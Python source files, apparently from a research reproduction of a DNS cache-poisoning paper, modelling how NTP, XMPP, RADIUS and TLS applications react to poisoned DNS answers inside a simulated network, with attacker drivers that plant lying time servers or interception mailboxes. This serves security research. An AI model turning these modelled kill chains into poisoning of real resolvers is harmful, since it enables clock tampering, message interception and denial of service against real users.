"Hijack: change time", which cascades into TLS validity windows, DNSSEC
signature validity, Kerberos and certificate expiry (the paper cites
[45], "The Impact of DNS Insecurity on Time").
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_KNOWN,
    Table1Row,
    USE_LOCATION,
)
from repro.apps.driver import AppDriver, host_at, register_driver
from repro.attacks.planner import TargetProfile
from repro.dns.stub import StubResolver
from repro.netsim.host import Host

NTP_PORT = 123
WELL_KNOWN_POOL = "pool.ntp.org"


class NtpServer:
    """A (possibly lying) NTP server."""

    def __init__(self, host: Host, time_offset: float = 0.0):
        self.host = host
        self.time_offset = time_offset
        self.queries_served = 0
        self._socket = host.open_udp(NTP_PORT, self._serve)

    def _serve(self, datagram, src: str, dst: str) -> None:
        self.queries_served += 1
        reported = self.host.now + self.time_offset
        self._socket.sendto(src, datagram.sport,
                            f"{reported:.6f}".encode("ascii"))


class NtpClient(Application):
    """An NTP client tracking its clock offset from the pool."""

    row = Table1Row(
        category="Sync", protocol="NTP", use_case="Time synchronisation",
        query_name=QUERY_KNOWN, query_known=True,
        trigger_method="connection DoS", record_types=["A"],
        dns_use=USE_LOCATION, impact="Hijack: change time",
    )

    def __init__(self, host: Host, stub: StubResolver,
                 pool_name: str = WELL_KNOWN_POOL,
                 poll_interval: float = 64.0):
        self.host = host
        self.stub = stub
        self.pool_name = pool_name
        self.poll_interval = poll_interval
        self.clock_offset = 0.0
        self.last_server: str | None = None
        self.sync_count = 0

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def synchronise(self) -> AppOutcome:
        """One poll: resolve the pool, query it, adopt the offset."""
        answer = self.stub.lookup(self.pool_name, "A")
        address = answer.first_address()
        if address is None:
            return AppOutcome(app="ntp", action="sync", ok=False,
                              detail={"error": "pool did not resolve"})
        network = self.host.network
        assert network is not None
        box: dict[str, float] = {}

        def on_reply(datagram, src, dst):
            if src == address:
                try:
                    box["time"] = float(datagram.payload.decode("ascii"))
                except ValueError:
                    pass

        socket = self.host.open_udp(None, on_reply)
        socket.sendto(address, NTP_PORT, b"ntp-query")
        deadline = network.now + 2.0
        while "time" not in box and network.now < deadline:
            if not network.scheduler.run_next():
                break
        socket.close()
        if "time" not in box:
            return AppOutcome(app="ntp", action="sync", ok=False,
                              used_address=address,
                              detail={"error": "no NTP response"})
        self.clock_offset = box["time"] - self.host.now
        self.last_server = address
        self.sync_count += 1
        return AppOutcome(
            app="ntp", action="sync", ok=True, used_address=address,
            detail={"offset": self.clock_offset},
        )

    @property
    def local_time(self) -> float:
        """The client's notion of current time."""
        return self.host.now + self.clock_offset


# -- kill-chain driver ---------------------------------------------------------


class NtpDriver(AppDriver):
    """A poisoned pool name hands the clock to a lying server."""

    name = "ntp"
    application = NtpClient

    #: the attacker server's clock error (one hour is plenty to break
    #: certificate validity windows, Kerberos and DNSSEC signatures)
    LIE_SECONDS = 3600.0

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        NtpServer(host_at(world, ctx["genuine_ip"], "ntp-origin"),
                  time_offset=0.0)
        NtpServer(host_at(world, malicious_ip, "evil-ntp"),
                  time_offset=self.LIE_SECONDS)
        ctx["client"] = NtpClient(ctx["app_host"], ctx["stub"],
                                  pool_name=qname)
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        return (ctx["client"].synchronise(),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        sync = outcomes[0]
        return sync.ok and sync.used_address == ctx["malicious_ip"] \
            and abs(ctx["client"].clock_offset) >= self.LIE_SECONDS / 2


register_driver(NtpDriver())
