"""XMPP server-to-server federation (Table 1, Online Chat row).

XMPP locates a user's home server through
``_xmpp-server._tcp.<domain>`` SRV records; the domain is the part after
the ``@`` in the contact's JID, so the attacker chooses the queried name
by messaging from (or to) a JID in its own domain — the "bounce" trigger.
Legacy server-to-server links frequently run without verified TLS, so a
poisoned SRV/A record yields **interception** ("Hijack: eavesdropping").
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_TARGET,
    Table1Row,
    USE_FEDERATION,
)
from repro.apps.driver import AppDriver, host_at, register_driver
from repro.apps.tls import TlsAuthority
from repro.attacks.planner import TargetProfile
from repro.dns.records import TYPE_SRV, rr_srv
from repro.dns.stub import StubResolver
from repro.netsim.host import Host

XMPP_S2S_PORT = 5269


@dataclass
class XmppMessage:
    """A federated chat message."""

    sender: str
    recipient: str
    body: str


class XmppMailbox:
    """Server-side message sink; also usable as an attacker's honeypot."""

    def __init__(self, host: Host, port: int = XMPP_S2S_PORT):
        self.host = host
        self.received: list[XmppMessage] = []
        host.stream_handlers[port] = self._accept

    def _accept(self, payload: bytes, src: str) -> bytes:
        sender, recipient, body = payload.decode("utf-8").split("\n", 2)
        self.received.append(XmppMessage(sender, recipient, body))
        return b"OK"


class XmppServer(Application):
    """An XMPP server delivering messages to federated domains."""

    row = Table1Row(
        category="Online Chat", protocol="XMPP", use_case="Chat+VoIP",
        query_name=QUERY_TARGET, query_known=True, trigger_method="bounce",
        record_types=["A", "SRV"], dns_use=USE_FEDERATION,
        impact="Hijack: eavesdropping",
    )

    def __init__(self, host: Host, stub: StubResolver,
                 tls: TlsAuthority | None = None,
                 require_verified_tls: bool = False):
        self.host = host
        self.stub = stub
        self.tls = tls
        self.require_verified_tls = require_verified_tls
        self.delivery_log: list[AppOutcome] = []

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def locate_home_server(self, domain: str) -> tuple[str, str, int] | None:
        """SRV → A discovery of a domain's XMPP server."""
        srv = self.stub.lookup(f"_xmpp-server._tcp.{domain}", TYPE_SRV)
        hostname, port = f"xmpp.{domain}", XMPP_S2S_PORT
        for record in srv.records:
            if record.rtype == TYPE_SRV:
                _prio, _weight, port, hostname = record.data
                break
        answer = self.stub.lookup(hostname, "A")
        address = answer.first_address()
        if address is None:
            return None
        return hostname, address, port

    def deliver(self, message: XmppMessage) -> AppOutcome:
        """Deliver a message to the recipient's federated home server."""
        domain = message.recipient.rsplit("@", 1)[-1].lower()
        located = self.locate_home_server(domain)
        if located is None:
            outcome = AppOutcome(app="xmpp", action="deliver", ok=False,
                                 detail={"error": f"cannot locate {domain}"})
            self.delivery_log.append(outcome)
            return outcome
        hostname, address, port = located
        if self.require_verified_tls and self.tls is not None \
                and not self.tls.handshake(hostname, address):
            outcome = AppOutcome(
                app="xmpp", action="deliver", ok=False,
                used_address=address,
                detail={"error": "s2s TLS verification failed"},
            )
            self.delivery_log.append(outcome)
            return outcome
        network = self.host.network
        assert network is not None
        box: dict[str, bytes | None] = {}
        payload = "\n".join(
            [message.sender, message.recipient, message.body]
        ).encode("utf-8")
        network.stream_request(self.host, address, port, payload,
                               lambda data: box.update(data=data))
        deadline = network.now + 3.0
        while "data" not in box and network.now < deadline:
            if not network.scheduler.run_next():
                break
        delivered = box.get("data") == b"OK"
        outcome = AppOutcome(
            app="xmpp", action="deliver", ok=delivered,
            used_address=address,
            detail={"recipient": message.recipient},
        )
        self.delivery_log.append(outcome)
        return outcome


# -- kill-chain driver ---------------------------------------------------------


class XmppDriver(AppDriver):
    """Federated chat delivered to the attacker's server (legacy s2s)."""

    name = "xmpp"
    application = XmppServer

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        world["target"].zone.add(
            rr_srv(f"_xmpp-server._tcp.{qname}", 0, 0, XMPP_S2S_PORT,
                   qname, ttl=300))
        XmppMailbox(host_at(world, ctx["genuine_ip"], "xmpp-origin"))
        ctx["evil_mailbox"] = XmppMailbox(
            host_at(world, malicious_ip, "evil-xmpp"))
        # Legacy server-to-server links run without verified TLS — the
        # configuration Table 1 scores as interception.
        ctx["server"] = XmppServer(ctx["app_host"], ctx["stub"])
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        message = XmppMessage(sender="alice@campus.example",
                              recipient=f"bob@{ctx['qname']}",
                              body="meet at the usual place")
        return (ctx["server"].deliver(message),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        delivered = outcomes[0]
        return delivered.ok \
            and delivered.used_address == ctx["malicious_ip"] \
            and bool(ctx["evil_mailbox"].received)


register_driver(XmppDriver())
