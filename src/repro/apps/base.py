"""Application framework: how victims consume (possibly poisoned) DNS.

Every application in the paper's Table 1 taxonomy is modelled as an
:class:`Application` with

* a DNS *use case* — location, federation or authorisation (§4.1.2);
* a *query model* — whether the attacker can choose, knows, or must
  discover the queried name (§4.1.3);
* a *trigger method* — how queries can be caused externally;
* an *impact* — what a poisoned answer does to the application (§4.5).

The attack planner and the Table 1 bench consume
:meth:`Application.table1_row`; the end-to-end application attacks in
the tests and examples drive the concrete subclasses.
"""

from __future__ import annotations

from abc import ABC, abstractmethod
from dataclasses import dataclass, field
from typing import Any

from repro.attacks.planner import TargetProfile

USE_LOCATION = "loc"
USE_FEDERATION = "fed"
USE_AUTHORISATION = "auth"

QUERY_TARGET = "target"   # attacker chooses the queried name
QUERY_KNOWN = "known"     # name is public/well-known
QUERY_CONFIG = "config"   # name is private configuration


_APP_OUTCOME_FIELDS = ("app", "action", "ok", "security_degraded",
                       "used_address", "detail")


@dataclass(frozen=True, slots=True)
class AppOutcome:
    """Result of one application-level operation under (or without) attack.

    Frozen and slotted like the kernel value objects: kill-chain
    campaigns ship thousands of outcomes back from worker processes, and
    immutability keeps the impact statistics trustworthy.
    """

    app: str
    action: str
    ok: bool
    security_degraded: bool = False
    used_address: str | None = None
    detail: dict[str, Any] = field(default_factory=dict)

    def describe(self) -> str:
        """One-line narrative for examples and traces."""
        status = "ok" if self.ok else "FAILED"
        downgrade = " [security downgraded]" if self.security_degraded else ""
        return f"{self.app}.{self.action}: {status}{downgrade}" + (
            f" via {self.used_address}" if self.used_address else ""
        )

    # Frozen+slots dataclasses only pickle out of the box from Python
    # 3.11; campaign workers ship outcomes on 3.10 too.
    def __getstate__(self):
        return tuple(getattr(self, name) for name in _APP_OUTCOME_FIELDS)

    def __setstate__(self, state):
        for name, value in zip(_APP_OUTCOME_FIELDS, state):
            object.__setattr__(self, name, value)


@dataclass
class Table1Row:
    """One row of the paper's Table 1."""

    category: str
    protocol: str
    use_case: str
    query_name: str               # target | known | config
    query_known: bool
    trigger_method: str           # direct | bounce | authentication |
    #                               connection | waiting | on-demand
    record_types: list[str]
    dns_use: str                  # loc | fed | auth
    impact: str

    def cells(self) -> list[str]:
        """Row cells in Table 1 column order (before the method columns)."""
        return [
            self.category, self.protocol, self.use_case, self.query_name,
            "yes" if self.query_known else "no", self.trigger_method,
            ", ".join(self.record_types), self.dns_use, self.impact,
        ]


class Application(ABC):
    """Base class for the attacked applications."""

    #: Table 1 metadata; subclasses must fill this.
    row: Table1Row

    @abstractmethod
    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner input describing this application as a target."""

    def _base_profile(self, **infrastructure: bool) -> TargetProfile:
        """Shared profile fields derived from the Table 1 row."""
        defaults = TargetProfile.defaults()
        defaults.update(infrastructure)
        return TargetProfile(
            app_name=self.row.protocol,
            query_name_known=self.row.query_name in (QUERY_TARGET,
                                                     QUERY_KNOWN),
            query_name_choosable=self.row.query_name == QUERY_TARGET,
            trigger_style=self.row.trigger_method,
            third_party_trigger=self.row.query_name == QUERY_CONFIG,
            **defaults,
        )
