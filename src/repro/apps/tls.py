"""Modelled TLS / third-party authentication.

Paper Section 6.2 recommends third-party authentication (TLS) as the
mitigation that survives a poisoned cache: the attacker can redirect a
victim to its host, but it cannot present a certificate for the genuine
name.  The model keeps exactly that property: a :class:`TlsAuthority`
records which host legitimately holds the certificate for each name, and
a handshake succeeds only when the connected address belongs to that
host.  (As in :mod:`repro.dns.dnssec`, cryptography is assumed
unbreakable; only the control flow is modelled.)

The CA side — *issuing* certificates after domain validation — lives in
:mod:`repro.apps.pki`, and that is where DNS poisoning still wins:
subvert issuance and the attacker obtains a genuine certificate.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass
class Certificate:
    """A certificate binding a DNS name to its legitimate holder."""

    name: str
    holder_address: str
    issuer: str = "Model CA"
    fraudulent: bool = False   # ground-truth marker set by PKI attacks


class TlsAuthority:
    """The set of honestly-issued certificates in the simulated world."""

    def __init__(self) -> None:
        self._certificates: dict[str, Certificate] = {}

    def issue(self, name: str, holder_address: str,
              issuer: str = "Model CA",
              fraudulent: bool = False) -> Certificate:
        """Record a certificate for ``name`` held at ``holder_address``.

        A later issuance replaces the earlier one (re-issue / hijack via
        fraudulent issuance both look like this).
        """
        certificate = Certificate(name=name.lower(),
                                  holder_address=holder_address,
                                  issuer=issuer, fraudulent=fraudulent)
        self._certificates[name.lower()] = certificate
        return certificate

    def certificate_for(self, name: str) -> Certificate | None:
        """The current certificate for ``name``, if any."""
        return self._certificates.get(name.lower())

    def handshake(self, name: str, address: str) -> bool:
        """Would a TLS client connecting to ``address`` accept ``name``?

        True only when a certificate for ``name`` exists and its holder
        is ``address``.  A fraudulently-issued certificate passes — that
        is the point of the domain-validation attack.
        """
        certificate = self._certificates.get(name.lower())
        return certificate is not None \
            and certificate.holder_address == address
