"""RADIUS / eduroam dynamic peer discovery (Table 1, Authentication row).

Eduroam-style federation locates a realm's authentication server with
NAPTR and SRV lookups on the realm (the domain part of the user ID — so
the *attacker chooses the queried name* by picking the user ID).  The
peer connection is authenticated with TLS (RadSec): an attacker that
poisons the discovery records redirects the connection to itself but
cannot complete the handshake — the outcome is **denial of service**
("DoS: no network access"), exactly as Table 1 reports.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_TARGET,
    Table1Row,
    USE_FEDERATION,
)
from repro.apps.driver import AppDriver, register_driver
from repro.apps.tls import TlsAuthority
from repro.attacks.planner import TargetProfile
from repro.dns.records import TYPE_NAPTR, TYPE_SRV, rr_srv
from repro.dns.stub import StubResolver


@dataclass
class RadiusPeer:
    """A discovered federation peer."""

    realm: str
    hostname: str
    address: str
    port: int


class RadiusServer(Application):
    """A RADIUS server performing dynamic federation peer discovery."""

    row = Table1Row(
        category="Authentication", protocol="Radius",
        use_case="Peer discovery", query_name=QUERY_TARGET,
        query_known=True, trigger_method="direct",
        record_types=["NAPTR", "SRV", "A"], dns_use=USE_FEDERATION,
        impact="DoS: no network access",
    )

    def __init__(self, stub: StubResolver, tls: TlsAuthority,
                 home_realm: str = "home.example"):
        self.stub = stub
        self.tls = tls
        self.home_realm = home_realm
        self.discoveries: list[RadiusPeer] = []

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def discover_peer(self, realm: str) -> RadiusPeer | None:
        """NAPTR → SRV → A resolution of a realm's RADIUS server."""
        naptr = self.stub.lookup(realm, TYPE_NAPTR)
        srv_name = f"_radsec._tcp.{realm}"
        for record in naptr.records:
            if record.rtype == TYPE_NAPTR:
                replacement = record.data[5]
                if replacement:
                    srv_name = replacement
                break
        srv = self.stub.lookup(srv_name, TYPE_SRV)
        hostname, port = f"radius.{realm}", 2083
        for record in srv.records:
            if record.rtype == TYPE_SRV:
                _prio, _weight, port, hostname = record.data
                break
        answer = self.stub.lookup(hostname, "A")
        address = answer.first_address()
        if address is None:
            return None
        peer = RadiusPeer(realm=realm, hostname=hostname,
                          address=address, port=port)
        self.discoveries.append(peer)
        return peer

    def authenticate_roaming_user(self, user_id: str) -> AppOutcome:
        """Authenticate ``user@realm`` by asking the realm's home server.

        The realm comes from the user ID — an attacker-controlled string
        — which is what makes the DNS query externally triggerable.
        """
        if "@" not in user_id:
            return AppOutcome(app="radius", action="authenticate", ok=False,
                              detail={"error": "malformed user id"})
        realm = user_id.rsplit("@", 1)[1].lower()
        peer = self.discover_peer(realm)
        if peer is None:
            return AppOutcome(
                app="radius", action="authenticate", ok=False,
                detail={"error": f"no RADIUS server found for {realm}"},
            )
        # RadSec: the TLS handshake must authenticate the peer's name.
        if not self.tls.handshake(peer.hostname, peer.address):
            return AppOutcome(
                app="radius", action="authenticate", ok=False,
                used_address=peer.address,
                detail={
                    "error": "TLS authentication of federation peer failed",
                    "effect": "user denied network access (DoS)",
                },
            )
        return AppOutcome(app="radius", action="authenticate", ok=True,
                          used_address=peer.address)


# -- kill-chain driver ---------------------------------------------------------


class RadiusDriver(AppDriver):
    """Eduroam peer discovery redirected to the attacker: RadSec DoS.

    The realm (and so every queried name) comes from the roaming user
    ID the attacker presents; the genuine SRV record points discovery
    at the realm apex, whose poisoned A record lands the RadSec
    connection on the attacker — where TLS fails and the user is denied
    network access.
    """

    name = "radius"
    application = RadiusServer

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        world["target"].zone.add(
            rr_srv(f"_radsec._tcp.{qname}", 0, 0, 2083, qname, ttl=300))
        tls = TlsAuthority()
        tls.issue(qname, ctx["genuine_ip"])
        ctx["server"] = RadiusServer(ctx["stub"], tls,
                                     home_realm="campus.example")
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        return (ctx["server"].authenticate_roaming_user(
            f"eve@{ctx['qname']}"),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        auth = outcomes[0]
        return not auth.ok and auth.used_address == ctx["malicious_ip"]


register_driver(RadiusDriver())
