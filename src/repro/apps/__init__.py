"""The nine application categories attacked in the paper (Table 1).

Importing this package also registers every application's kill-chain
driver (see :mod:`repro.apps.driver`): each concrete module plugs its
:class:`AppDriver` subclasses into the registry, which is what lets an
``AttackScenario`` carry an :class:`AppSpec` stage by name.
"""

from repro.apps.driver import (
    AppDriver,
    AppSpec,
    AppStageResult,
    AppTrigger,
    available_apps,
    driver_for,
    impact_class,
    register_driver,
    resolve_driver,
)
from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_CONFIG,
    QUERY_KNOWN,
    QUERY_TARGET,
    Table1Row,
    USE_AUTHORISATION,
    USE_FEDERATION,
    USE_LOCATION,
)
from repro.apps.bitcoin import BitcoinNode, BitcoinPeer, ChainTip
from repro.apps.email_ import (
    DkimApplication,
    Email,
    SmtpServer,
    SpamPolicy,
    SpfApplication,
)
from repro.apps.middlebox import (
    AliasProvider,
    CdnEdge,
    Firewall,
    LoadBalancer,
    MiddleboxProfile,
    Proxy,
    ResolvingMiddlebox,
    TABLE2_PROFILES,
)
from repro.apps.ntp import NtpClient, NtpServer
from repro.apps.pki import (
    CertificateAuthority,
    OcspClient,
    OcspResponder,
    RpkiApplication,
)
from repro.apps.radius import RadiusServer
from repro.apps.tls import Certificate, TlsAuthority
from repro.apps.vpn import (
    IkeApplication,
    OpenVpnClient,
    OpportunisticIpsecPeer,
    VpnGateway,
)
from repro.apps.web import (
    Account,
    HttpClient,
    HttpServer,
    PasswordRecoveryService,
)
from repro.apps.xmpp import XmppMailbox, XmppMessage, XmppServer

ALL_APPLICATIONS: list[type[Application]] = [
    RadiusServer,
    XmppServer,
    SmtpServer,
    SpfApplication,
    DkimApplication,
    HttpClient,
    PasswordRecoveryService,
    NtpClient,
    BitcoinNode,
    OpenVpnClient,
    IkeApplication,
    OpportunisticIpsecPeer,
    CertificateAuthority,
    OcspClient,
    RpkiApplication,
    Firewall,
    LoadBalancer,
    CdnEdge,
    AliasProvider,
    Proxy,
]

__all__ = [
    "ALL_APPLICATIONS",
    "Account",
    "AliasProvider",
    "AppDriver",
    "AppSpec",
    "AppStageResult",
    "AppTrigger",
    "Application",
    "AppOutcome",
    "BitcoinNode",
    "BitcoinPeer",
    "CdnEdge",
    "Certificate",
    "CertificateAuthority",
    "ChainTip",
    "DkimApplication",
    "Email",
    "Firewall",
    "HttpClient",
    "HttpServer",
    "IkeApplication",
    "LoadBalancer",
    "MiddleboxProfile",
    "NtpClient",
    "NtpServer",
    "OcspClient",
    "OcspResponder",
    "OpenVpnClient",
    "OpportunisticIpsecPeer",
    "PasswordRecoveryService",
    "Proxy",
    "QUERY_CONFIG",
    "QUERY_KNOWN",
    "QUERY_TARGET",
    "RadiusServer",
    "ResolvingMiddlebox",
    "RpkiApplication",
    "SmtpServer",
    "SpamPolicy",
    "SpfApplication",
    "TABLE2_PROFILES",
    "Table1Row",
    "TlsAuthority",
    "USE_AUTHORISATION",
    "USE_FEDERATION",
    "USE_LOCATION",
    "VpnGateway",
    "available_apps",
    "driver_for",
    "impact_class",
    "register_driver",
    "resolve_driver",
    "XmppMailbox",
    "XmppMessage",
    "XmppServer",
]
