"""App drivers: the application stage of the end-to-end kill chain.

The paper's impact claims (Table 1, §4.5) are statements about what a
poisoned cache does *to an application* — a CA issues a fraudulent
certificate, a relying party stops validating routes, a roaming user is
denied network access.  An :class:`AppDriver` packages one Table 1
application as a scenario stage:

* :meth:`AppDriver.setup` attaches the application's principals to a
  built testbed world — the victim application on the in-ACL service
  host, the genuine remote endpoint at the address the target zone
  really publishes, and the attacker's counterfeit endpoint at the
  address the poisoning plants;
* :meth:`AppDriver.workload` executes the application operation against
  the (possibly poisoned) world after the attack phase;
* :meth:`AppDriver.realized` decides whether the outcomes demonstrate
  the row's impact — traffic at the planted address, a fraudulent
  issuance, a fail-open downgrade.

The driver registry mirrors the method registry in
:mod:`repro.scenario.registry`: an :class:`AppSpec` names a driver as
plain picklable data, and ``AttackScenario.app_spec`` turns any attack
scenario into a full kill chain that campaigns can sweep on worker
processes.
"""

from __future__ import annotations

from abc import ABC, abstractmethod
from dataclasses import dataclass
from typing import Any

from repro.apps.base import Application, AppOutcome
from repro.attacks.trigger import DNS_PORT, QueryTrigger
from repro.core.errors import ScenarioError
from repro.core.rng import DeterministicRNG
from repro.dns.message import make_query
from repro.dns.records import ResourceRecord, TYPE_A, rr_a, type_code
from repro.dns.stub import StubResolver
from repro.dns.wire import encode_message
from repro.testbed import TARGET_WEB_IP

#: Table 1 impact classes (the prefix before the colon in every cell).
IMPACT_HIJACK = "Hijack"
IMPACT_DOWNGRADE = "Downgrade"
IMPACT_DOS = "DoS"
IMPACT_CLASSES = (IMPACT_HIJACK, IMPACT_DOWNGRADE, IMPACT_DOS)


def impact_class(impact: str) -> str:
    """The Table 1 impact class of an impact cell string."""
    prefix = impact.split(":", 1)[0].strip()
    if prefix not in IMPACT_CLASSES:
        raise ValueError(f"unclassifiable impact cell: {impact!r}")
    return prefix


@dataclass(frozen=True, slots=True)
class AppSpec:
    """The application stage of a scenario, as plain picklable data.

    ``app`` names a registered driver; ``params`` (sorted key/value
    pairs, kept as a tuple so the spec stays hashable) are passed to the
    driver's :meth:`AppDriver.setup`.
    """

    app: str
    params: tuple[tuple[str, Any], ...] = ()

    @classmethod
    def of(cls, app: str, **params: Any) -> "AppSpec":
        """Build a spec with keyword parameters."""
        return cls(app=app, params=tuple(sorted(params.items())))

    def kwargs(self) -> dict[str, Any]:
        """The params as a keyword dict for the driver."""
        return dict(self.params)

    # Frozen+slots dataclasses only pickle out of the box from Python
    # 3.11; campaign workers ship specs on 3.10 too.
    def __getstate__(self):
        return (self.app, self.params)

    def __setstate__(self, state):
        for name, value in zip(("app", "params"), state):
            object.__setattr__(self, name, value)


@dataclass(frozen=True, slots=True)
class AppStageResult:
    """What the application stage of one kill-chain run measured.

    ``impact`` is the Table 1 impact cell the driver reproduces;
    ``realized`` says whether this run's outcomes actually demonstrated
    it (they can only when the attack phase poisoned the cache).
    """

    app: str
    impact: str
    impact_class: str
    realized: bool
    outcomes: tuple[AppOutcome, ...] = ()

    @property
    def fraud_certificate(self) -> bool:
        """A fraudulent (but genuine-looking) certificate was issued."""
        return self.realized and "certificate" in self.impact

    @property
    def takeover(self) -> bool:
        """An account/credential takeover completed."""
        return self.realized and "account hijack" in self.impact

    @property
    def downgrade(self) -> bool:
        """A security mechanism was silently switched off."""
        return self.realized and self.impact_class == IMPACT_DOWNGRADE

    def describe(self) -> str:
        status = "IMPACT REALIZED" if self.realized else "no impact"
        return f"{self.app}: {status} ({self.impact})"

    def __getstate__(self):
        return (self.app, self.impact, self.impact_class, self.realized,
                self.outcomes)

    def __setstate__(self, state):
        for name, value in zip(
                ("app", "impact", "impact_class", "realized", "outcomes"),
                state):
            object.__setattr__(self, name, value)


class AppTrigger(QueryTrigger):
    """Application-style query trigger bound to a built app stage.

    Emits the DNS query the application's own host would issue (MX
    lookup for a bounce, SRV discovery for federation, a plain A for a
    fetch) from inside the resolver's ACL — non-blocking, so the attack
    keeps control of the race window.  The declarative counterpart is
    ``TriggerSpec(kind="app")``; this live object is built per world by
    the scenario, never pickled.
    """

    def __init__(self, app_host, resolver_ip: str, style: str,
                 rng: DeterministicRNG):
        self.app_host = app_host
        self.resolver_ip = resolver_ip
        self.style = style
        self.rng = rng
        self.fired = 0

    def fire(self, qname: str, qtype: int | str = "A") -> None:
        if isinstance(qtype, str):
            qtype = type_code(qtype)
        from repro.netsim.wire import make_udp_packet

        query = make_query(qname, qtype, self.rng.pick_txid())
        packet = make_udp_packet(
            src=self.app_host.address, dst=self.resolver_ip,
            sport=self.rng.pick_port(), dport=DNS_PORT,
            payload=encode_message(query),
        )
        self.app_host.raw_send(packet)
        self.fired += 1


class AppDriver(ABC):
    """One Table 1 application, runnable as a kill-chain stage."""

    #: registry key (``AppSpec.app``)
    name: str
    #: the Table 1 application class this driver executes
    application: type[Application]
    #: methodologies whose planted records this driver's workload can
    #: observe.  FragDNS only rewrites A rdata, so drivers that need a
    #: planted TXT/IPSECKEY restrict this; the planner's Table 1
    #: applicability verdicts are a separate (stricter) question.
    methods: tuple[str, ...] = ("HijackDNS", "SadDNS", "FragDNS")

    @property
    def impact(self) -> str:
        """The Table 1 impact cell this driver reproduces."""
        return self.application.row.impact

    @property
    def trigger_style(self) -> str:
        """Table 1 trigger style, for :class:`AppTrigger` display."""
        return self.application.row.trigger_method

    def malicious_records(self, qname: str, attacker_ip: str
                          ) -> tuple[ResourceRecord, ...]:
        """Records the attack must plant for this app's workload.

        Every methodology verifies success through the planted
        ``A(qname) -> attacker`` mapping, so that record must always be
        present; drivers needing extra records (TXT, IPSECKEY, ...)
        extend this.
        """
        return (rr_a(qname, attacker_ip, ttl=86400),)

    @abstractmethod
    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params: Any) -> dict:
        """Attach the app's principals to the world; returns the ctx."""

    @abstractmethod
    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        """Execute the application operation against the current world."""

    @abstractmethod
    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        """Did these outcomes demonstrate the Table 1 impact?"""

    def run_stage(self, ctx: dict) -> AppStageResult:
        """Workload + classification, wrapped for the scenario run."""
        outcomes = tuple(self.workload(ctx))
        return AppStageResult(
            app=self.name,
            impact=self.impact,
            impact_class=impact_class(self.impact),
            realized=self.realized(ctx, outcomes),
            outcomes=outcomes,
        )

    def query_trigger(self, ctx: dict) -> AppTrigger:
        """The app-style trigger for this stage's world."""
        return AppTrigger(
            ctx["app_host"], ctx["resolver_ip"],
            style=self.trigger_style, rng=ctx["trigger_rng"],
        )

    # -- shared world plumbing -------------------------------------------------

    def base_ctx(self, world: dict, qname: str, malicious_ip: str) -> dict:
        """Common stage context: the victim-side host, stub and RNGs.

        The application lives on the standard world's in-ACL service
        host; its stub points at the victim resolver, with RNG streams
        derived from the testbed seed so every executor replays the
        stage bit-identically.
        """
        bed = world["testbed"]
        app_host = world["service"]
        resolver_ip = world["resolver"].address
        return {
            "world": world,
            "testbed": bed,
            "qname": qname,
            "malicious_ip": malicious_ip,
            "genuine_ip": genuine_address(world, qname),
            "app_host": app_host,
            "resolver_ip": resolver_ip,
            "stub": StubResolver(app_host, resolver_ip,
                                 rng=bed.rng.derive("app-stub")),
            "trigger_rng": bed.rng.derive("app-trigger"),
            "app_rng": bed.rng.derive("app-rng"),
        }


def genuine_address(world: dict, qname: str) -> str:
    """The address the target zone legitimately publishes for ``qname``."""
    from repro.dns import names

    zone = world["target"].zone
    for record in zone.records:
        if record.rtype == TYPE_A and names.same_name(record.name, qname):
            return record.data
    return TARGET_WEB_IP


def host_at(world: dict, address: str, name: str):
    """The host at ``address``, attached on demand.

    The attacker's counterfeit endpoints usually land on the existing
    attacker host (the planted A record points there by default);
    genuine origins attach fresh hosts at the zone-published address.
    """
    bed = world["testbed"]
    host = bed.network.host_for(address)
    if host is None:
        host = bed.make_host(name, address)
    return host


# -- registry ------------------------------------------------------------------

_DRIVERS: dict[str, AppDriver] = {}


def register_driver(driver: AppDriver) -> AppDriver:
    """Add an application driver under its name."""
    key = driver.name.lower()
    existing = _DRIVERS.get(key)
    if existing is not None and type(existing) is not type(driver):
        raise ScenarioError(
            f"app driver name {driver.name!r} already registered for"
            f" {type(existing).__name__}")
    _DRIVERS[key] = driver
    return driver


def resolve_driver(name: str) -> AppDriver:
    """Look up an application driver by name."""
    # Drivers register when their application modules import; pulling
    # the package in makes a bare `resolve_driver("dv")` work even
    # before anything else touched repro.apps.
    import repro.apps  # noqa: F401

    driver = _DRIVERS.get(name.lower())
    if driver is None:
        known = ", ".join(sorted(_DRIVERS))
        raise ScenarioError(
            f"unknown application {name!r}; registered: {known}")
    return driver


def available_apps() -> list[str]:
    """Names of all registered application drivers."""
    import repro.apps  # noqa: F401

    return sorted(_DRIVERS)


def driver_for(app_class: type[Application]) -> AppDriver:
    """The driver executing a given Table 1 application class."""
    import repro.apps  # noqa: F401

    for driver in _DRIVERS.values():
        if driver.application is app_class:
            return driver
